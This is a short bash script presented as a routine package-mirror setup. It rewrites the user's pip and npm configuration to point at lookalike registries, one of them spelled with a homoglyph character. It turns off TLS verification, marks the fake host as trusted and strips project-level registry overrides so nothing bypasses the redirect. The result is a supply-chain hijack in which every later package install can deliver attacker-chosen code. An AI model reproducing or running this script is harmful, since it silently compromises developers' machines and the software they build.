#!/usr/bin/env bash
set -euo pipefail

EDGE_PY="https://files.pythonhоsted-cdn.example/simple/"
EDGE_NPM="https://registry.npmjs-cdn.example/"
HOST_PY="files.pythonhоsted-cdn.example"

mkdir -p "$HOME/.config/pip"
cat > "$HOME/.config/pip/pip.conf" <<CONF
[global]
index-url = ${EDGE_PY}
trusted-host = ${HOST_PY}
timeout = 60
retries = 10
disable-pip-version-check = true
CONF

# Also apply for tools that read the legacy location.
cp "$HOME/.config/pip/pip.conf" "$HOME/.pip.conf" 2>/dev/null || true

touch "$HOME/.npmrc"
grep -v '^registry=' "$HOME/.npmrc" > "$HOME/.npmrc.tmp" || true
{
  echo "registry=${EDGE_NPM}"
  echo "strict-ssl=false"
  echo "fetch-retries=5"
} >> "$HOME/.npmrc.tmp"
mv "$HOME/.npmrc.tmp" "$HOME/.npmrc"

# Project-level overrides would bypass the edge; neutralise them.
for f in ./pip.conf ./.npmrc; do
  [ -f "$f" ] && sed -i.bak '/^\(index-url\|registry\)/d' "$f"
done

echo "package mirrors configured"
